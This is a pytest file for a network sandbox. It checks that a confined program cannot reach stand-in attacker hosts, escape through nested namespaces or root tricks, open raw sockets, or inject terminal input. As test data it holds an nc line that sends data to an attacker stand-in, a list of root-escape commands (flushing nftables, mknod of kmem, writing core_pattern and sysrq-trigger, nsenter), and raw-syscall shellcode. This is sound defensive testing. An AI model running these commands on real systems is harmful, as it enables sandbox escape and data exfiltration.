"""The cell: what a program inside can and cannot do with the network, the kernel, its terminal and its parent.

CEL-01 to -04, -06, -06c, -07 to -09, -11 to -13, -20, -21; files and sockets are in test_files.py.
"""

import ctypes
import fcntl
import hashlib
import os
import pty
import shutil
import signal
import socket
import struct
import subprocess
import termios
import time

import pytest

from small_internet import world
from small_internet.messages import Answer, query
from small_internet.runner import PYTHON, SALLYPORT, USER

ALLOW = ["api.example.test:443"]


# --- CEL-01: the command is the command ---


@pytest.mark.parametrize(
    "script, status",
    [
        ("exit 0", 0),
        ("exit 7", 7),
        ("exit 125", 125),
        ("kill -TERM $$", 128 + 15),
        ("kill -KILL $$", 128 + 9),
        ("kill -SEGV $$", 128 + 11),
    ],
)
def test_exit_status(lab, script, status):
    assert lab.run("sh", "-c", script).status == status


def test_not_found_and_not_executable(lab):
    base = lab.workspace()
    with open(f"{base}/project/data", "w") as file:
        file.write("not a program")
    assert lab.run("no-such-command-here", base=base).status == 127
    assert lab.run("./missing", base=base).status == 127
    assert lab.run("./data", base=base).status == 126
    assert lab.run("/etc", base=base).status == 126


def test_a_gigabyte_through_a_pipe(lab):
    """CEL-01: equal bytes."""
    stream = ["sh", "-c", "openssl enc -aes-128-ctr -K 00 -iv 00 -in /dev/zero 2>/dev/null | head -c 1073741824"]
    with subprocess.Popen(stream, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL) as source:
        process, base, *_ = lab.start("cat", stdin=source.stdout)
        source.stdout.close()
        digest, size = hashlib.sha256(), 0
        while data := process.stdout.read(1 << 20):
            digest.update(data)
            size += len(data)
        assert process.wait(30) == 0 and size == 1 << 30
        process.stderr.close()
    expected = subprocess.run(
        ["sh", "-c", stream[2] + " | sha256sum"], capture_output=True, text=True, stderr=None
    ).stdout.split()[0]
    assert digest.hexdigest() == expected


def test_streams_are_untouched(lab):
    """CEL-01: nothing of ours on standard output; standard error has the command's lines as they are."""
    run = lab.run("sh", "-c", "cat; echo to-err >&2", input=b"\0\xff raw \r\n", quiet=True)
    assert run.out == b"\0\xff raw \r\n" and run.err == b"to-err\n", run


def test_user_and_directory(lab):
    base = lab.workspace()
    run = lab.run("sh", "-c", "id -u; id -g; pwd; echo $HOME", base=base)
    assert run.text.split() == [str(USER.pw_uid), str(USER.pw_gid), f"{base}/project", f"{base}/home"], run


def test_no_capability_outside_and_none_inside(lab):
    run = lab.run("sh", "-c", "grep -E 'Cap(Prm|Eff|Amb)|NoNewPrivs' /proc/self/status")
    assert run.text.split() == ["CapPrm:", "0" * 16, "CapEff:", "0" * 16, "CapAmb:", "0" * 16, "NoNewPrivs:", "1"], run


# --- CEL-02, -04: packets ---

LITERALS = [
    world.EVIL4,
    world.GOOD4,
    world.HOST4,
    world.HOST4_GATEWAY,
    "10.0.0.1",
    "192.168.1.1",
    world.METADATA,
    "100.64.0.1",
    "1.1.1.1",
    "0.0.0.1",
    "255.255.255.254",
    "224.0.0.5",
    world.EVIL6,
    world.GOOD6,
    world.HOST6,
    "fd00::1",
    "2001:4860:4860::8888",
    "::ffff:185.199.108.66",
    "64:ff9b::b9c7:6c42",
    "2002:b9c7:6c42::1",
]
PORTS = [1, 22, 25, 80, 443, 5432, 8080, 65535]


def gone(result, seconds=1.0):
    """Refused at once, by the kernel or by a reset right after the connect."""
    if result["seconds"] > seconds:
        return False
    return (
        result["error"] not in ("TimeoutError", "ETIMEDOUT")
        if "error" in result
        else result["end"] in ("reset", "eof") and not result["data"]
    )


def test_literal_addresses(lab, witness):
    """CEL-02: every literal address and port is reset at once."""
    targets = [[a, p] for a in LITERALS for p in PORTS]
    with witness.expect_zero():
        results, run = lab.probe([{"do": "tcp", "to": t, "timeout": 5} for t in targets], allow=ALLOW, threads=4)
    assert [(t, r) for t, r in zip(targets, results) if not gone(r)] == []
    for address in (world.EVIL4, world.EVIL6):
        for port in PORTS:
            records = [d for d in run.denials(port=port) if d["addr"] == address]
            spellings = 2 if address == world.EVIL4 else 1  # ::ffff:185.199.108.66 is the same address
            assert sum(d["count"] for d in records) == spellings and records[0]["reason"] == "ip_literal_denied", (
                address,
                port,
                records,
            )


def test_literal_address_control(lab, witness):
    with witness.watch() as seen:
        results, _ = lab.probe(
            [{"do": "tcp", "to": [a, 5432], "send": "70", "read": 1} for a in (world.EVIL4, world.EVIL6)],
            confined=False,
        )
    assert [r["data"] for r in results] == ["70", "70"] and len(seen.arrived) == 2


@pytest.mark.parametrize(
    "address", [world.EVIL4, world.EVIL6, "10.1.2.3", "255.255.255.255", "224.0.0.251", "ff02::fb", "239.1.1.1"]
)
def test_udp(lab, witness, address):
    """CEL-04."""
    ports = (123, 443, 4433, 5353, 784, 65535)
    with witness.expect_zero():
        results, run = lab.probe(
            [
                {"do": "udp", "to": [address, p], "send": "00" * 32, "timeout": 1, "connect": c, "broadcast": True}
                for p in ports
                for c in (True, False)
            ],
            allow=ALLOW,
            threads=12,
        )
    assert all(r.get("error") for r in results), results
    if address in (world.EVIL4, world.EVIL6):
        assert all(
            r["error"] in ("ECONNREFUSED", "EPERM", "EACCES", "ENETUNREACH", "EHOSTUNREACH") for r in results[::2]
        ), results


def test_udp_control(lab, witness):
    results, _ = lab.probe(
        [
            {"do": "udp", "to": [world.EVIL4, 4433], "send": "0102"},
            {"do": "udp", "to": [world.EVIL6, 4433], "send": "0102"},
        ],
        confined=False,
    )
    assert [r.get("data") for r in results] == ["0102", "0102"]


AF = {
    "unix": 1,
    "inet": 2,
    "inet6": 10,
    "netlink": 16,
    "packet": 17,
    "alg": 38,
    "bluetooth": 31,
    "tipc": 30,
    "vsock": 40,
    "key": 15,
    "can": 29,
    "rds": 21,
    "kcm": 41,
    "xdp": 44,
    "smc": 43,
    "x25": 9,
}


@pytest.mark.parametrize(
    "kind, step",
    [
        ("raw-icmp", dict(family=AF["inet"], type=3, proto=1)),
        ("raw-tcp", dict(family=AF["inet"], type=3, proto=6)),
        ("raw-ip", dict(family=AF["inet"], type=3, proto=255)),
        ("raw6", dict(family=AF["inet6"], type=3, proto=58)),
        ("packet", dict(family=AF["packet"], type=3, proto=768)),
        ("sctp", dict(family=AF["inet"], type=1, proto=132)),
        ("sctp6", dict(family=AF["inet6"], type=5, proto=132)),
        ("dccp", dict(family=AF["inet"], type=6, proto=33)),
        ("udplite", dict(family=AF["inet"], type=2, proto=136, to=[world.EVIL4, 443], send="00")),
        ("mptcp-elsewhere", dict(family=AF["inet"], type=1, proto=262, to=[world.EVIL4, 5432], send="00")),
    ],
    ids=lambda v: v if isinstance(v, str) else "",
)
def test_other_protocols(lab, witness, kind, step):
    """CEL-04: no socket, or an immediate error."""
    with witness.expect_zero():
        results, run = lab.probe([{"do": "make_socket", **step}, {"do": "tcp", "to": [world.EVIL4, 5432]}], allow=ALLOW)
    if kind == "mptcp-elsewhere":  # a captured connect may succeed before the reset
        assert results[0]["seconds"] < 1
    else:
        assert results[0].get("error"), results


def test_ping(lab, witness):
    """CEL-04, CEL-06c: with every address local an echo would be answered; it is refused."""
    assert lab.bare("ping", "-c", "1", "-W", "1", world.EVIL4).status == 0
    with witness.expect_zero():
        for address in (world.EVIL4, world.EVIL6):
            run = lab.run("ping", "-c", "1", "-W", "1", address, allow=ALLOW)
            assert run.status != 0 and "1 received" not in run.text, run


# --- CEL-03: other resolvers ---


@pytest.mark.parametrize(
    "command",
    [
        ["dig", "+short", "+tries=1", "+time=1", "@8.8.8.8", "evil.test"],
        ["dig", "+short", "+tcp", "+tries=1", "+time=1", "@8.8.8.8", "evil.test"],
        ["dig", "+short", "+tries=1", "+time=1", f"@{world.OTHER_RESOLVER6}", "evil.test"],
        ["dig", "+short", "+tries=1", "+time=1", "-p", "5353", "@8.8.8.8", "evil.test"],
        ["kdig", "+tls", "+retry=0", "+timeout=2", "@8.8.8.8", "evil.test"],
        ["kdig", "+https", "+retry=0", "+timeout=2", "@8.8.8.8", "evil.test"],
        ["curl", "-sS", "--max-time", "4", "https://evil.test/dns-query"],
        ["curl", "-sSk", "--max-time", "4", f"https://{world.OTHER_RESOLVER}/dns-query"],
    ],
    ids=" ".join,
)
def test_other_resolvers(lab, witness, command):
    with witness.expect_zero():
        run = lab.run(*command, allow=ALLOW)
    assert world.EVIL4 not in run.text and "hello" not in run.text and run.seconds < 5, run
    if "5353" not in command:  # UDP but port 53 is refused by the kernel, which keeps no record
        assert run.denials(), run


def test_other_resolver_answers_allowed_names(lab, witness):
    with witness.expect_only("api.example.test"):
        run = lab.run(
            "dig", "+short", "+tries=1", "+time=2", f"@{world.OTHER_RESOLVER}", "api.example.test", allow=ALLOW
        )
    assert run.text.startswith("198.1"), run


# --- CEL-06, -06c, -07: kernel interfaces ---


def test_socket_families(lab):
    """CEL-06: an allow list."""
    names = [n for n in AF if n not in ("unix", "inet", "inet6", "netlink")]
    steps = [{"do": "make_socket", "family": AF[n], "type": t} for n in names for t in (1, 2, 3, 5)]
    steps += [{"do": "make_socket", "family": AF["netlink"], "type": 3, "proto": p} for p in (2, 4, 9, 12, 15, 16)]
    results, run = lab.probe(steps)
    assert [(s, r) for s, r in zip(steps, results) if "error" not in r] == [], run
    good, _ = lab.probe(
        [{"do": "make_socket", "family": AF[n], "type": 1} for n in ("unix", "inet", "inet6")]
        + [{"do": "make_socket", "family": AF["netlink"], "type": 3, "proto": 0}]
    )
    assert all(r.get("made") for r in good), good


def test_system_calls(lab):
    """CEL-06: io_uring is absent; keyrings, TIOCSTI, bpf, perf, ptrace of others, mounts and setns are refused."""
    steps = [
        {"do": "syscall", "args": a}
        for a in ([425, 8, 0], [248, 0, 0, 0, 0, 0], [249, 0, 0, 0, 0], [250, 0, -3, 0, 0, 0])
    ]
    results, run = lab.probe(steps)
    assert results[0].get("error") == "ENOSYS", results
    assert all(r.get("error") in ("EPERM", "ENOSYS", "EACCES") for r in results[1:]), results


FOREIGN = """
import ctypes, mmap, sys
code = bytes.fromhex(sys.argv[1])
area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
area.write(code)
function = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(area)))
print("before", flush=True)
print("after", function())
"""
INT80_SOCKET = (
    "b867010000" "bb02000000" "b901000000" "ba00000000" "cd80" "c3"
)  # mov eax,359 (socket); ebx=AF_INET; ecx=SOCK_STREAM; int 0x80
X32_SOCKET = (
    "b829000040" "bf02000000" "be01000000" "ba00000000" "0f05" "c3"
)  # mov eax,0x40000029; edi, esi, edx; syscall


@pytest.mark.parametrize("code", [INT80_SOCKET, X32_SOCKET], ids=["int80", "x32"])
def test_foreign_abi_is_killed(lab, code):
    """CEL-06."""
    run = lab.run(PYTHON, "-c", FOREIGN, code)
    assert run.text.split() == ["before"] and run.status == 128 + signal.SIGSYS, run


@pytest.mark.parametrize("family", [4, 6])
def test_addrconfig(lab, family):
    """CEL-06c."""
    results, run = lab.probe(
        [{"do": "lookup", "name": "api.example.test", "family": family, "flags": socket.AI_ADDRCONFIG}], allow=ALLOW
    )
    assert results[0].get("addresses"), (results, run)


def test_answer_over_ipv6(lab):
    """CEL-06c: the reply comes from the address that was asked."""
    results, _ = lab.probe(
        [{"do": "dns", "to": [world.OTHER_RESOLVER6, 53], "send": query("api.example.test")}], allow=ALLOW
    )
    assert Answer(results[0]["data"]).answers


LISTENERS = """
import json, socket
found = []
for path, family in (("/proc/net/tcp", socket.AF_INET), ("/proc/net/tcp6", socket.AF_INET6)):
    for line in open(path).read().splitlines()[1:]:
        local, state = line.split()[1], line.split()[3]
        if state == "0A" and not line.split()[1].endswith(":0035"):
            found.append((family, int(local.split(":")[1], 16)))
results = []
for family, port in found:
    for address in (("127.0.0.1", "127.9.9.9", "198.18.0.1") if family == socket.AF_INET else ("::1",)):
        s = socket.socket(family)
        s.settimeout(6)
        try:
            s.connect((address, port))
            s.sendall(b"GET / HTTP/1.1\\r\\nHost: api.example.test\\r\\n\\r\\n")
            results.append([address, port, s.recv(100).decode("latin-1")])
        except OSError as error:
            results.append([address, port, "error " + type(error).__name__])
print(json.dumps(results))
"""


def test_direct_connect_to_the_redirect_port(lab, witness):
    """CEL-06c: a flow whose original destination is loopback is a denial; port 53 is the resolver."""
    with witness.expect_zero():
        run = lab.run(PYTHON, "-c", LISTENERS, allow=["api.example.test:80,443"])
    results = run.json()
    assert results, "no redirect listener is visible: this test needs another way to find it"
    assert [
        r for r in results if not r[2].startswith(("error ConnectionRes", "error ConnectionRef", "HTTP/1.1 4")) and r[2]
    ] == [], results


def test_outside_processes_do_not_exist(lab):
    """CEL-07: the same user's process outside can be neither seen nor touched."""
    outside = subprocess.Popen(
        ["sleep", "60"],
        preexec_fn=lambda: (
            os.setgroups([]),
            os.setresgid(USER.pw_gid, USER.pw_gid, USER.pw_gid),
            os.setresuid(USER.pw_uid, USER.pw_uid, USER.pw_uid),
        ),
    )
    try:
        calls = {
            "kill": [62, outside.pid, 9],
            "ptrace": [101, 16, outside.pid, 0, 0],
            "pidfd_open": [434, outside.pid, 0],
        }
        results, run = lab.probe(
            [{"do": "syscall", "args": a} for a in calls.values()]
            + [{"do": "write_memory", "pid": outside.pid}, {"do": "read_file", "path": f"/proc/{outside.pid}/environ"}]
        )
        assert all(r.get("error") in ("ESRCH", "EPERM", "ENOENT", "ENOSYS") for r in results), results
        assert outside.poll() is None
        run = lab.run("sh", "-c", "ls -d /proc/[0-9]* | wc -l")
        assert int(run.text) < 10, run
    finally:
        outside.kill()
        outside.wait()


# A captured connect succeeds before its reset: only an echo proves that somebody was reached.
ECHO = f"echo way-out | nc -N -w 1 {world.EVIL4} 5432 | grep way-out"


def test_nested_control(lab):
    assert lab.bare("sh", "-c", ECHO).text == "way-out\n"


@pytest.mark.parametrize(
    "command",
    [
        ["unshare", "-Urn", "sh", "-c", f"ip link set lo up; {ECHO}"],
        ["unshare", "-Ur", "sh", "-c", ECHO],
        ["bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "sh", "-c", ECHO],
        ["bwrap", "--ro-bind", "/", "/", "--unshare-all", "--share-net", "sh", "-c", ECHO],
        [SALLYPORT, "run", "--allow", "evil.test:80", "--", "curl", "-sS", "--max-time", "3", "http://evil.test/"],
        ["nsenter", "-t", "1", "-n", "sh", "-c", ECHO],
    ],
    ids=lambda c: " ".join(c[:4]).replace(SALLYPORT, "sallyport"),
)
def test_nested(lab, witness, command):
    """CEL-08: works or fails cleanly; never a way out."""
    with witness.expect_zero():
        run = lab.run(*command, allow=ALLOW, timeout=20)
    assert run.status != 0 and run.seconds < 10, run


ROOT_TRICKS = f"""
nft flush ruleset
ip link set lo down; ip link set lo up
ip route add default via 198.18.0.1
ip link add v0 type veth peer name v1
ip tuntap add dev tun0 mode tun
ip addr add {world.HOST4}/24 dev lo
nft add table inet x
mount -t tmpfs none /mnt
mknod /tmp/kmem c 1 2
sysctl -w net.ipv4.ip_forward=1
nsenter -t 1 -n true
chroot / true
cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern && echo REACHED core_pattern
echo h > /proc/sysrq-trigger && echo REACHED sysrq
{ECHO} && echo REACHED
{ECHO.replace(world.EVIL4, world.EVIL6)} && echo REACHED
dig +short +tries=1 +time=1 @8.8.8.8 evil.test | grep -q . && echo REACHED dns
ping -c 1 -W 1 {world.EVIL4} && echo REACHED ping
true
"""


def test_root_in_the_cell(lab, witness):
    """CEL-09: root breaks only itself."""
    with witness.expect_zero():
        run = lab.run("sh", "-c", ROOT_TRICKS, uid=0, allow=ALLOW)
    assert run.status == 0 and "REACHED" not in run.text, run


def test_root_still_has_its_main_job(lab, witness):
    run = lab.run(
        "sh",
        "-c",
        "id -u; curl -sS https://api.example.test/whoami; chown 1:1 . && echo chown-works",
        uid=0,
        allow=ALLOW,
    )
    assert run.text.startswith("0\n") and "sni=api.example.test" in run.text, run


def test_root_has_no_network_capability(lab):
    """CEL-09: Docker's default capabilities less NET_ADMIN and NET_RAW."""
    run = lab.run("grep", "CapEff", "/proc/self/status", uid=0)
    effective = int(run.text.split()[1], 16)
    assert not effective & (1 << 12 | 1 << 13 | 1 << 21 | 1 << 19 | 1 << 16), hex(effective)


def test_own_listener_on_port_53(lab, witness):
    """CEL-09: a server of the workload's on port 53 does not become anybody's resolver but its own."""
    code = "import socket\nfor kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):\n  s = socket.socket(socket.AF_INET, kind)\n  try:\n    s.bind(('0.0.0.0', 53)); print('bound')\n  except OSError as e: print(e)\n"
    with witness.expect_zero():
        run = lab.run(
            PYTHON,
            "-c",
            code
            + "\nimport subprocess\nprint(subprocess.run(['dig','+short','+tries=1','+time=1','evil.test'],capture_output=True,text=True).stdout)",
            uid=0,
            allow=ALLOW,
        )
    assert world.EVIL4 not in run.text and run.status == 0, run


# --- CEL-11, -12, -13: what is inherited ---


def test_descriptors_are_not_inherited(lab, witness):
    """CEL-11: a connected TCP socket at 9, and others."""
    with lab.namespaces.inside(lab.namespaces.host_fd):
        leaked = socket.create_connection((world.EVIL4, 5432))
    control = socket.socketpair()
    try:

        def place():
            os.dup2(leaked.fileno(), 9)
            os.dup2(control[0].fileno(), 10)

        process, base, given, began = lab.start(
            "sh", "-c", "ls /proc/self/fd; echo LEAK >&9", pass_fds=(9, 10, leaked.fileno()), preexec=place
        )
        run = lab.finish((process, base, given, began))
    finally:
        leaked.close()
    lines = run.text.split()
    assert set(lines) <= {"0", "1", "2", "3"}, run
    assert not [c for c in lab.servers.connections(world.EVIL4, 5432) if b"LEAK" in c.data]


@pytest.mark.parametrize("stream", ["stdin", "stdout", "stderr"])
def test_inet_socket_as_a_standard_stream(lab, stream):
    """CEL-11: replaced by a copied pipe: the data passes, the socket itself is not in the cell."""
    with lab.namespaces.inside(lab.namespaces.host_fd):
        outer = socket.create_connection((world.EVIL4, 5432))
    with outer:
        number = {"stdin": 0, "stdout": 1, "stderr": 2}[stream]
        code = f"import os,socket,stat; print('socket' if stat.S_ISSOCK(os.fstat({number}).st_mode) and socket.socket(fileno=os.dup({number})).family in (2, 10) else 'pipe', file=open('result','w'))"
        base = lab.workspace()
        run = lab.run(PYTHON, "-c", code, base=base, **{stream: outer.fileno()})
        assert run.status == 0, run
        with open(f"{base}/project/result") as file:
            assert file.read() == "pipe\n"


def test_setuid_gains_nothing(lab):
    """CEL-12."""
    program = f"{lab.share}/suid-id"
    shutil.copy("/usr/bin/id", program)
    os.chown(program, 0, 0)
    os.chmod(program, 0o4755)
    assert "euid=0" in lab.bare(program).text, "the control: outside it does gain"
    assert "euid=0" not in lab.run(program).text


class Terminal:
    """sallyport run on a pseudo-terminal of its own, as a shell would start it."""

    def __init__(self, lab, *command):
        self.master, slave = pty.openpty()
        fcntl.ioctl(self.master, termios.TIOCSWINSZ, struct.pack("4H", 33, 77, 0, 0))

        def control():
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)

        os.fchown(slave, USER.pw_uid, -1)
        self.process, self.base, *_ = lab.start(
            *command, stdin=slave, stdout=slave, stderr=slave, preexec=control, env={"TERM": "xterm"}
        )
        os.close(slave)
        self.text = b""

    def expect(self, word, seconds=8):
        deadline = time.monotonic() + seconds
        os.set_blocking(self.master, False)
        while word not in self.text:
            assert time.monotonic() < deadline, (word, self.text)
            try:
                self.text += os.read(self.master, 4096)
            except (BlockingIOError, OSError):
                time.sleep(0.02)

    def type(self, text):
        os.write(self.master, text)

    def wait(self, seconds=8):
        status = self.process.wait(seconds)
        os.close(self.master)
        return status


def test_terminal_size_and_resize(lab):
    """CEL-13."""
    terminal = Terminal(
        lab,
        PYTHON,
        "-c",
        "import os,signal,time\nsignal.signal(signal.SIGWINCH,lambda *_:print('resized',os.get_terminal_size(),flush=True))\nprint('first',os.get_terminal_size(),flush=True)\nfor _ in range(80): time.sleep(0.1)",
    )
    terminal.expect(b"columns=77, lines=33")
    fcntl.ioctl(terminal.master, termios.TIOCSWINSZ, struct.pack("4H", 44, 99, 0, 0))
    terminal.expect(b"resized os.terminal_size(columns=99, lines=44)")
    terminal.type(b"\x03")
    assert terminal.wait() != 0


def test_terminal_interrupt(lab):
    """CEL-13: Ctrl-C reaches the command; the status says so."""
    terminal = Terminal(lab, "sh", "-c", "echo ready; sleep 30")
    terminal.expect(b"ready")
    terminal.type(b"\x03")
    assert terminal.wait() in (128 + signal.SIGINT, -signal.SIGINT)


def test_terminal_interrupt_that_the_command_handles(lab):
    terminal = Terminal(lab, "sh", "-c", "trap 'echo caught; exit 9' INT; echo ready; while :; do sleep 0.1; done")
    terminal.expect(b"ready")
    terminal.type(b"\x03")
    terminal.expect(b"caught")
    assert terminal.wait() == 9


def test_terminal_injection(lab):
    """CEL-13: TIOCSTI and TIOCLINUX are refused, also with high bits set in the request."""
    code = "import ctypes\nl=ctypes.CDLL(None,use_errno=True)\nfor r in (0x5412,0x541c,0x5412|1<<32,0x541c|1<<32):\n  ctypes.set_errno(0); v=l.syscall(16,ctypes.c_long(0),ctypes.c_ulong(r),ctypes.c_char_p(b'X')); print('result',v,ctypes.get_errno())\nprint('done',flush=True)"
    terminal = Terminal(lab, PYTHON, "-c", code)
    terminal.expect(b"done")
    assert terminal.text.count(b"result -1") == 4, terminal.text
    terminal.wait()


def test_full_screen_program(lab):
    """CEL-13: raw mode, cursor addressing, input."""
    if not shutil.which("tmux"):
        pytest.fail("tmux is missing: ./dev deps")
    terminal = Terminal(
        lab,
        "tmux",
        "-f",
        "/dev/null",
        "-S",
        "socket",
        "new-session",
        "echo in-tmux; read line; echo got $line; sleep 0.5",
    )
    terminal.expect(b"in-tmux")
    terminal.type(b"typed\r")
    terminal.expect(b"got typed")
    assert terminal.wait(10) == 0


# --- CEL-20, -21 ---


class Filter(ctypes.Structure):
    _fields_ = [("code", ctypes.c_ushort), ("jt", ctypes.c_ubyte), ("jf", ctypes.c_ubyte), ("k", ctypes.c_uint)]


class Program(ctypes.Structure):
    _fields_ = [("length", ctypes.c_ushort), ("filters", ctypes.POINTER(Filter))]


def forbid_user_namespaces():
    """What Docker's default profile does: clone and unshare with CLONE_NEWUSER give EPERM, clone3 ENOSYS."""

    def statement(code, k, jt=0, jf=0):
        return Filter(code, jt, jf, k)

    load, equal, test, give = 0x20, 0x15, 0x45, 0x06
    filters = [
        statement(load, 0),
        statement(equal, 435, 0, 1),
        statement(give, 0x00050000 | 38),
        statement(equal, 56, 1, 0),
        statement(equal, 272, 0, 3),
        statement(load, 16),
        statement(test, 0x10000000, 0, 1),
        statement(give, 0x00050000 | 1),
        statement(give, 0x7FFF0000),
    ]
    array = (Filter * len(filters))(*filters)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(38, 1, 0, 0, 0)
    if libc.prctl(22, 2, ctypes.byref(Program(len(filters), array)), 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "seccomp")


def test_no_user_namespaces(lab, witness):
    """CEL-20: exit 125, the reason and the remedy; the command is never started."""
    base = lab.workspace()
    with witness.expect_zero():
        run = lab.finish(lab.start("touch", "started", base=base, preexec=forbid_user_namespaces))
    assert run.status == 125 and not os.path.exists(f"{base}/project/started"), run
    assert "user namespace" in run.errors and len(run.errors.strip().splitlines()) >= 2, run


@pytest.mark.parametrize(
    "step",
    [
        {"family": 4, "address": "127.0.0.1"},
        {"family": 4, "address": "127.5.5.5"},
        {"family": 6, "address": "::1"},
        {"family": 4, "address": "localhost"},
        {"family": 4, "address": "127.0.0.1", "port": 8080},
        {"family": 4, "address": "127.0.0.1", "port": 3128},
    ],
    ids=str,
)
def test_own_servers_on_loopback(lab, witness, step):
    """CEL-21."""
    with witness.expect_zero():
        results, run = lab.probe([{"do": "serve_loopback", **step}], allow=ALLOW)
    assert results[0].get("data") == "gnip", (results, run)
    assert not run.denials(), run


def test_loopback_of_the_host_is_another(lab):
    """A server on the host's 127.0.0.1 is not in the cell."""
    with lab.namespaces.inside(lab.namespaces.host_fd):
        server = socket.create_server(("127.0.0.1", 0))
    with server:
        port = server.getsockname()[1]
        bare, _ = lab.probe([{"do": "tcp", "to": ["127.0.0.1", port], "read": 0}], confined=False)
        results, _ = lab.probe([{"do": "tcp", "to": ["127.0.0.1", port]}], allow=ALLOW)
    assert bare[0].get("connected") and gone(results[0]), (bare, results)
